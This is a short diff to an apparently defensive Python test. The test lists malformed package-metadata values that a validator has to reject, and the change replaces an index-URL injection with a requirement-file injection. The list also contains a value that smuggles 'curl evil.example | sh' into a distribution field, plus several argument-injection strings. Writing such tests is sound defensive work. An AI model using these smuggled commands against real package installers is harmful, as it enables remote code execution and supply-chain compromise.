@@ -137,7 +137,7 @@ def test_another_package_with_the_same_name_does_not_stand_in(package: Install) 
     "kept",
     [
         {**KEPT, "distribution": "x; curl evil.example | sh"},
-        {**KEPT, "distribution": "--index-url=http://evil.example"},
+        {**KEPT, "distribution": "--requirement=evil.txt"},
         {**KEPT, "version": "1.0 --pre"},
         {**KEPT, "name": "os:system"},
         {**KEPT, "group": "console_scripts"},
